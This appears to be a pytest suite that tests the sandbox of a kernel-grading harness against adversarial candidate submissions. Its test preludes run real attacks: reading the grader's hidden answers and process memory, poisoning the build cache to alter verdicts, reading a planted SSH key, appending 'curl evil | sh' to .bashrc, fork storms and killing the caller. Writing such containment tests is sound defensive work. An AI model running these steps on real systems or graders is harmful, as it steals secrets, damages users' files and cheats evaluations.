"""Adversarial candidates against the sandbox (THREATS: read the answers, change the judge, harm the user, exhaust,
attack the caller, escape cleanup). Each is the shared C++-only fixture with attack code run at import; they run for
real in CPU mode. A defence holds when the verdict is not a clean "correct" and nothing outside the sandbox changed.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from dice_lsp.harness import cgroups, check, check_many, sandbox, view
from decoys import MANY_PROCESSES

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.slow  # each builds (once, shared) and runs the fixture's extension


def escaped(report) -> bool:
    return "ESCAPED" in report.message or "ESCAPED" in (report.log or "")



@pytest.fixture
def outside(tmp_path_factory) -> Path:
    """A folder outside /tmp and HOME (both hidden in the sandbox), standing for the user's project."""
    folder = ROOT / f".scratch-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def _tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_cannot_reach_the_reference_worker_or_its_memory(files, sandboxed):
    prelude = '''
import os
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"dice_lsp.harness.worker" in cmdline:
            try:
                open(f"/proc/{pid}/mem", "r+b")
            except OSError:
                raise RuntimeError(f"ESCAPED: saw worker {pid}")
            raise RuntimeError(f"ESCAPED: opened /proc/{pid}/mem")
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.zeros(a, b)", prelude), sandboxed)
    assert not escaped(report), report.message
    assert report.status == "mismatch", (report.status, report.message)


def test_cannot_read_the_exchange_or_the_reference_source(files, sandboxed):
    prelude = '''
import glob, tempfile
for pattern in ("/tmp/**/inputs.pt", "/tmp/**/reference.py", "/tmp/**/outputs.json", "/proc/*/cwd/inputs.pt"):
    found = glob.glob(pattern, recursive=True)
    if found:
        raise RuntimeError(f"ESCAPED: {found}")
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
                   sandboxed)
    assert not escaped(report), report.message
    assert report.status == "correct", (report.status, report.message)


def test_cannot_poison_the_build_cache(files, sandboxed, cache_dir):
    honest = files.solution("return self.ext.add_values(a, b)")
    assert check(files.text("add_reference.py"), honest, sandboxed).status == "correct"  # the entry exists now
    before = _tree(Path(cache_dir))
    prelude = f'''
import glob, os
written = []
for done in glob.glob({cache_dir!r} + "/*/dice.done"):
    try:
        with open(done, "w") as handle:
            handle.write("plain\\n/usr/lib/x86_64-linux-gnu/libm.so.6")
        written.append(done)
    except OSError:
        pass
try:
    open({cache_dir!r} + "/planted.so", "wb").write(b"not a library")
    written.append("planted")
except OSError:
    pass
if written:
    raise RuntimeError(f"ESCAPED: rewrote {{written}}")
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.zeros(a, b)", prelude), sandboxed)
    assert not escaped(report), report.message
    assert report.status == "mismatch"
    assert _tree(Path(cache_dir)) == before
    assert check(files.text("add_reference.py"), honest, sandboxed).status == "correct"


def test_cannot_touch_the_users_files_or_read_secrets(files, sandboxed, outside, tmp_path, monkeypatch,
                                                       request):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    secret = f"secret-{uuid.uuid4().hex}"
    (home / ".ssh" / "id_test").write_text(secret)
    (home / ".bashrc").write_text("# the user's shell\n")
    monkeypatch.setenv("HOME", str(home))
    # A caller run from its home folder has that folder itself on sys.path (its runtime paths must not undo the hiding)
    monkeypatch.syspath_prepend(str(home))
    view.runtime_paths.cache_clear()
    request.addfinalizer(view.runtime_paths.cache_clear)
    (outside / "problem.py").write_text(files.text("add_reference.py"))
    (outside / "notes.txt").write_text("the user's notes\n")
    before = _tree(outside), _tree(home)
    prelude = f'''
import os
results = []
for index, attempt in enumerate((
    lambda: open({str(outside / "problem.py")!r}, "w").write("class Model: pass\\n"),
    lambda: os.remove({str(outside / "notes.txt")!r}),
    lambda: open({str(home / ".bashrc")!r}, "a").write("curl evil | sh\\n"),
    lambda: results.append(open({str(home / ".ssh" / "id_test")!r}).read()),
    lambda: open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\\n"),
)):
    try:
        attempt()
        results.append(index)
    except OSError:
        pass
raise RuntimeError(f"attempts that worked: {{results}}")
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
                   sandboxed)
    assert secret not in report.message and secret not in (report.log or "")
    assert (_tree(outside), _tree(home)) == before
    assert "attempts that worked: [4]" in report.message, report.message  # its own HOME, on its tmpfs
    assert report.status == "crashed"


def test_limits_hold_when_the_candidate_raises_its_own(files, sandboxed):
    prelude = '''
import resource
for kind in (resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
    soft, hard = resource.getrlimit(kind)
    if soft != hard:
        raise RuntimeError(f"ESCAPED: soft limit {kind} below its hard limit, so it can be raised")
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        raise RuntimeError(f"ESCAPED: raised limit {kind}")
    except ValueError:
        pass
import os, tempfile
block = b"x" * (1 << 20)
written = 0
try:
    with open(os.path.join(tempfile.gettempdir(), "fill"), "wb") as handle:
        for _ in range(3 << 10):
            handle.write(block)
            written += 1
except OSError:
    pass
os.remove(os.path.join(tempfile.gettempdir(), "fill"))  # the check itself needs room for the outputs
if written >= 2 << 10:
    raise RuntimeError(f"ESCAPED: wrote {written} MiB")
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
                   sandboxed)
    assert not escaped(report), report.message
    assert report.status == "correct", (report.status, report.message)


ROOT_CALLER = pytest.mark.skipif(os.geteuid() != 0, reason="a root caller's defence: any other caller's candidates "
                                                            "run as that caller, whom the kernel limits already")


@ROOT_CALLER
def test_a_root_callers_candidate_is_not_root_and_reads_no_root_only_file(files, sandboxed, outside):
    """Inside bwrap's user namespace a root caller's candidate would still be uid 0 to the kernel, and read every
    root-only file the read-only system shows (host keys, /etc/shadow): it runs as an unprivileged user."""
    secret = f"secret-{uuid.uuid4().hex}"
    key = outside / "host_key"
    key.write_text(secret)
    key.chmod(0o600)
    prelude = f'''
import os
if 0 in os.getresuid() or 0 in os.getresgid():
    raise RuntimeError(f"ESCAPED: runs as root {{os.getresuid()}}")
try:
    text = open({str(key)!r}).read()
except OSError:
    pass
else:
    raise RuntimeError(f"ESCAPED: read {{text}}")
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
                   sandboxed)
    assert not escaped(report) and secret not in report.message, report.message
    assert report.status == "correct", (report.status, report.message)


@ROOT_CALLER
def test_a_root_callers_build_reads_no_root_only_file(files, sandboxed, outside):
    """The compiler echoes the lines it cannot parse: a source that includes a root-only file (a host key) would
    put its contents into the report's compile errors, were the builder root to the kernel. It is not."""
    secret = f"secret{uuid.uuid4().hex}"
    key = outside / "host_key"
    key.write_text(f"{secret} here;\n")
    key.chmod(0o600)
    solution = files.solution("return self.ext.add_values(a, b)").replace(
        "#include <map>\n", f'#include <map>\n#include "{key}"\n', 1)
    report = check(files.text("add_reference.py"), solution, sandboxed)
    assert secret not in report.message and secret not in (report.log or ""), report.message
    assert report.status == "compile-error" and str(key) in report.message + (report.log or ""), report.message


@ROOT_CALLER
def test_a_references_folders_are_lent_for_its_life_and_taken_back_after_the_last(tmp_path):
    """A folder a reference's worker writes (its compile caches) belongs to the unprivileged user only while that
    worker lives; two overlapping workers share one until the second ends; a link inside is changed, not followed
    (the file it points at stays the caller's), and a folder that is itself a link is left alone."""
    from dice_lsp.harness import lending

    entry, shared, elsewhere = tmp_path / "entry", tmp_path / "pch", tmp_path / "elsewhere.txt"
    for folder in (entry, shared):
        (folder / "inner").mkdir(parents=True)
        (folder / "inner" / "file").write_text("x")
    elsewhere.write_text("the caller's")
    (entry / "link").symlink_to(elsewhere)
    owners = lambda folder: {p.lstat().st_uid for p in [folder, *folder.rglob("*")]}  # noqa: E731
    user = sandbox.unprivileged_uid()
    with lending.lent([str(entry), str(shared)], user):
        with lending.lent([str(shared)], user):
            assert owners(entry) == owners(shared) == {user}
        assert owners(shared) == {user}  # the first build still writes it
    assert owners(entry) == owners(shared) == {0} and elsewhere.stat().st_uid == 0
    (tmp_path / "linked").symlink_to(entry, target_is_directory=True)
    with lending.lent([str(tmp_path / "linked")], user):
        assert owners(entry) == {0}


@ROOT_CALLER
def test_a_process_count_holds_for_a_root_caller_without_a_pids_cgroup(files, sandboxed, monkeypatch):
    """Where no pids cgroup can be made (the GPU machine's vm has no pids controller), RLIMIT_NPROC is the count,
    and the kernel does not enforce it on root: the candidate's unprivileged user meets it."""
    monkeypatch.setattr(cgroups.Cgroup, "_make", lambda self, path, knobs: None)
    prelude = MANY_PROCESSES
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
                   sandboxed.with_(process_limit=64))
    assert not escaped(report), report.message
    assert report.status == "correct", (report.status, report.message)


@ROOT_CALLER
def test_a_candidate_left_root_is_said_in_the_report(files, sandboxed):
    """Where a root caller's candidate stays root (here turned off; elsewhere a runtime folder only root can read),
    the report warns, on forward, with why: the defences above do not hold then."""
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)"),
                   sandboxed.with_(unprivileged=False))
    [warning] = [f for f in report.findings if f.code == "unsandboxed"]
    assert warning.severity == "warning" and "unprivileged = False" in warning.message, warning
    assert report.status == "correct"


@ROOT_CALLER
def test_an_unprivileged_worker_imports_from_a_checkout_only_root_may_read(tmp_path, monkeypatch):
    """A checkout in a folder only its owner may enter (`mktemp -d`, 0700) would be no use to nobody: inside a hidden
    folder it is made afresh in the sandbox and its entries bound one by one, so the package in it imports."""
    checkout = tmp_path / "checkout"
    checkout.mkdir(mode=0o700)
    (checkout / "probe_module.py").write_text("VALUE = 42\n")
    monkeypatch.setenv("PYTHONPATH", str(checkout))
    view.runtime_paths.cache_clear()
    try:
        found = sandbox.status()
        assert found.user, found.root_note
        inside = sandbox.scrub(dict(os.environ)) | {sandbox.USER_VARIABLE: str(found.user), "PYTHONPATH": str(checkout)}
        code = ("import dice_lsp.harness.sandbox as s; s.become_from_environment(); import os, probe_module; "
                "print(probe_module.VALUE, os.getuid())")
        bwrap, _pid = sandbox.spawn([sys.executable, "-c", code], sandbox.Room(scratch_mb=8, user=found.user),
                                    found.tool, inside, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        said, _ = bwrap.communicate(timeout=300)
    finally:
        view.runtime_paths.cache_clear()
    assert said.split() == ["42", str(found.user)], said


def test_the_references_compiled_code_persists_for_it_and_is_hidden_from_the_solution(files, sandboxed, outside):
    """torch.compile's caches of the reference (19 s to compile the example's reference on this machine, 2.8 s from
    the cache) are kept from one check to the next, in a folder only the reference's worker is given; a root
    caller's folder is its own again once that worker ended. A solution's room shows the folder empty even where no
    hidden folder holds it (a cache_dir in the project), since the code there computes the reference's op."""
    from dice_lsp.harness import WorkerPool, process

    # torch.compile's first compile of the reference runs inside a time command: past the fixture's 60 s limit on
    # the 2-core machine under a load of 8 (this test is about where its caches go, not how long it takes)
    options = sandboxed.with_(baseline="compile", timing_trials=5, run_timeout=300.0)
    compiled = Path(options.compiled_dir)
    pool = WorkerPool()
    try:
        first = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)"), options,
                      pool=pool)
    finally:
        pool.close()
    assert first.status == "correct" and first.speedup_compile, (first.summary(), first.message)
    kept = {p for p in compiled.rglob("*") if p.is_file()}
    assert kept and all(p.lstat().st_uid == os.getuid() for p in [compiled, *kept])

    elsewhere = options.with_(cache_dir=str(outside / "extensions"))
    Path(elsewhere.compiled_dir).mkdir(parents=True)
    (Path(elsewhere.compiled_dir) / "reference_kernel.py").write_text("the reference's op\n")
    workers = {role: process.Worker(elsewhere, warm=False, role=role) for role in ("solution", "reference")}
    script = f"import os, sys; sys.stdout.write(repr(os.listdir({elsewhere.compiled_dir!r})))"
    seen = {}
    try:
        rooms = {role: worker.room for role, worker in workers.items()}
        assert rooms["solution"].hidden == (elsewhere.compiled_dir,) and not rooms["reference"].hidden
        assert elsewhere.compiled_dir in rooms["reference"].writable
        for role, room in rooms.items():  # what each worker's room shows of the folder
            inside = sandbox.scrub(dict(os.environ)) | ({sandbox.USER_VARIABLE: str(room.user)} if room.user else {})
            bwrap, _pid = sandbox.spawn([sys.executable, "-c", script], room, sandbox.status().tool, inside,
                                        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
            seen[role] = bwrap.communicate(timeout=300)[0]
    finally:
        for worker in workers.values():
            worker.close()
    assert seen == {"solution": "[]", "reference": "['reference_kernel.py']"}, seen


@ROOT_CALLER
def test_an_unprivileged_worker_ends_with_its_bwrap(sandboxed):
    """Dropping to nobody clears the parent-death signal bwrap's --die-with-parent set; the worker sets it again, so
    killing bwrap (what a stopped command's reaper does to its children) ends the sandbox and what runs in it (an
    eval stopped during its builds left ninja and cc1plus running without it)."""
    from dice_lsp.harness import process

    found = sandbox.status()
    code = ("import sys, dice_lsp.harness.sandbox as s; s.become_from_environment(); print('ready', flush=True); "
            "sys.stdin.read()")
    inside = sandbox.scrub(dict(os.environ)) | {sandbox.USER_VARIABLE: str(found.user)}
    bwrap, pid = sandbox.spawn([sys.executable, "-c", code], sandbox.Room(scratch_mb=8, user=found.user), found.tool,
                               inside, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert bwrap.stdout.readline().strip() == "ready"
    started = process._stat(pid)[19]
    bwrap.kill()
    bwrap.wait()
    while process._running(pid, started):  # an hour, were it left (past pytest's timeout)
        time.sleep(0.01)


def test_cannot_make_a_user_namespace(files, sandboxed):
    """A user namespace of its own would give the candidate every capability there (mounts of unbounded tmpfs, the
    kernel's namespaced code paths): refused (bwrap's --disable-userns, or, for a root caller, a seccomp filter)."""
    prelude = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
    raise RuntimeError("ESCAPED: made a user namespace")
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
                   sandboxed)
    assert not escaped(report), report.message
    assert report.status == "correct", (report.status, report.message)


def test_no_process_outlives_its_check(files, sandboxed):
    marker = f"dice-escapee-{uuid.uuid4().hex}"
    prelude = f'''
import os, time
for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "600", {marker!r}])
        os._exit(0)
time.sleep(0.2)
'''
    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
                   sandboxed)
    assert report.status == "correct", (report.status, report.message)
    left = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                left.append(int(pid))
        except OSError:
            pass
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert not left, f"{len(left)} processes outlived the check"


JUNK = {
    "junk": 'os.write(int(sys.argv[1]), b"\\x00not json at all\\n")',
    "endless": 'os.write(int(sys.argv[1]), b"x" * (64 << 20))',
    "kill the caller": '[os.kill(p, signal.SIGKILL) for p in (os.getppid(), 1) if p != os.getpid()]',
}


@pytest.mark.parametrize("attack", sorted(JUNK))
def test_the_caller_survives_and_reports(files, sandboxed, attack):
    prelude = f"import os, signal, sys\n{JUNK[attack]}\n"
    honest = files.solution("return self.ext.add_values(a, b)")
    reports = check_many([(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)",
                                                                         prelude)),
                          (files.text("add_reference.py"), honest)], sandboxed)
    if attack != "kill the caller":  # that one computes honestly once its signals went nowhere: we are still here
        assert reports[0].status == "crashed", (reports[0].status, reports[0].message)
    assert reports[1].status == "correct", (reports[1].status, reports[1].message)


def test_no_worker_folder_outlives_the_caller(files, sandboxed, tmp_path):
    """A caller that checks and exits normally leaves no dice-harness-* folder: the workers a finished check closes
    without waiting are reaped by daemon threads that exit would stop, so exit reaps what they did not."""
    script = tmp_path / "caller.py"
    script.write_text(
        "import sys\nfrom dice_lsp.harness import Options, check\n"
        "report = check(open(sys.argv[1]).read(), open(sys.argv[2]).read(), Options.from_dict(eval(sys.argv[3])))\n"
        "print(report.status)\n")
    (tmp_path / "reference.py").write_text(files.text("add_reference.py"))
    (tmp_path / "solution.py").write_text(files.solution("return self.ext.add_values(a, b)"))
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    done = subprocess.run([sys.executable, str(script), str(tmp_path / "reference.py"), str(tmp_path / "solution.py"),
                           repr(sandboxed.to_dict())], capture_output=True, text=True,
                          env={**os.environ, "TMPDIR": str(scratch)})
    assert done.stdout.strip() == "correct", done.stderr[-2000:]
    assert not list(scratch.iterdir())


def test_a_worker_that_is_not_pid_1_is_found_and_its_end_ends_the_sandbox(sandboxed):
    """A GPU reference worker runs as PID 2 under bubblewrap's init (CUDA's IPC tells the two sides apart by their
    PIDs inside their sandboxes): its host PID is the init's one child, it sees itself as PID 2, and when it ends, the
    init and the namespace end with it, taking a process it left behind."""
    from dice_lsp.harness import process

    script = ("import os, subprocess, sys; subprocess.Popen(['sleep', '3600'], start_new_session=True); "
              "print(os.getpid(), flush=True); sys.stdin.read()")
    found = sandbox.status()
    bwrap, init = sandbox.spawn([sys.executable, "-c", script], sandbox.Room(scratch_mb=8, pid1=False, user=found.user),
                                found.tool, sandbox.scrub(dict(os.environ)), stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, text=True)
    worker = process._only_child(init)
    assert worker and worker != init
    assert bwrap.stdout.readline().strip() == "2"  # PID 2 inside
    assert Path(f"/proc/{worker}/cmdline").read_text().split("\0")[1] == "-c"  # the worker itself, not its child
    left = [int(p) for p in Path(f"/proc/{worker}/task/{worker}/children").read_text().split()]
    assert left  # its sleep
    os.kill(worker, signal.SIGKILL)
    bwrap.wait()  # bwrap ends when its init does
    for pid in (init, *left):  # the namespace's end ends the sleep: an hour, were it left (past pytest's timeout)
        while process._stat(pid)[:1] not in ([], ["Z"]):
            time.sleep(0.01)


def test_a_builder_yields_the_cores_and_a_solution_worker_does_not(sandboxed, unknown_command):
    """In batch mode the next batch builds while this one is timed: a builder worker, and every compiler it starts,
    runs at BUILDER_NICENESS; the workers that are timed keep the default."""
    from dice_lsp.harness import messages, process

    niceness = {}
    for role in ("builder", "solution"):
        worker = process.Worker(sandboxed, warm=False, role=role)
        try:
            assert isinstance(worker.call(unknown_command, 120), messages.Failed)  # running and answering
            niceness[role] = int(process._stat(worker.pid)[16])  # /proc/<pid>/stat's 19th field
        finally:
            worker.close()
    assert niceness == {"builder": process.BUILDER_NICENESS, "solution": 0}


SHM_FILES = '''
import os, sys
import dice_lsp.harness.sandbox as s
s.become_from_environment()
for name in ("cuda.shm.fffe.1.1a", "cuda.shm.0.1.7", "torch_1_5_6", "cuda.shm.fffe.2.1", "other"):
    with open("/dev/shm/" + name, "w") as handle:
        handle.write("made by the sharer: " + name)
os.symlink("/etc/hostname", "/dev/shm/cuda.shm.0.1.8")  # a link planted for the caller to follow
os.mkfifo("/dev/shm/cuda.shm.0.1.9")  # a pipe the caller would block on
print("ready", flush=True)
sys.stdin.read()
'''


def test_cuda_ipc_files_of_a_nobody_sharer_are_handed_over_and_nothing_else(sandboxed):
    """The files CUDA and torch write into the sharing worker's /dev/shm for IPC reach the opener's, given to its
    user. The fields of `cuda.shm.<id>.<pid>.<n>` are hexadecimal (`cuda.shm.fffe.1.1a` as well as root's
    `cuda.shm.0.1.7`): a pattern of decimal digits would leave any with a letter behind, the suspect for IPC failing
    between nobody's workers where root's worked (H100, 2026-12-07; benchmarks/gpu_sandbox_probe.py lists the real
    names). Only PID 1's, only regular files, never through a link or into a pipe."""
    from types import SimpleNamespace

    from dice_lsp.harness import handover

    found = sandbox.status()
    user = found.user if os.geteuid() == 0 else 0
    inside = sandbox.scrub(dict(os.environ)) | ({sandbox.USER_VARIABLE: str(user)} if user else {})
    wait = "import sys, dice_lsp.harness.sandbox as s; s.become_from_environment(); print('ready', flush=True); " \
           "sys.stdin.read()"
    rooms = []
    try:
        for script, pid1 in ((SHM_FILES, True), (wait, False)):
            bwrap, pid = sandbox.spawn([sys.executable, "-c", script], sandbox.Room(scratch_mb=8, user=user, pid1=pid1),
                                       found.tool, inside, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
            rooms.append((bwrap, pid))
            assert bwrap.stdout.readline().strip() == "ready"
        (_, sharer), (_, opener) = rooms
        handover.hand_shared(SimpleNamespace(sandboxed=True, child_pid=sharer),
                             SimpleNamespace(sandboxed=True, child_pid=opener, user=user))
        shm = Path(f"/proc/{opener}/root/dev/shm")
        assert sorted(os.listdir(shm)) == ["cuda.shm.0.1.7", "cuda.shm.fffe.1.1a", "torch_1_5_6"]
        for name in os.listdir(shm):
            assert (shm / name).read_text() == "made by the sharer: " + name
            assert (shm / name).stat().st_uid == user
    finally:
        for bwrap, _ in rooms:
            bwrap.kill()
            bwrap.wait()
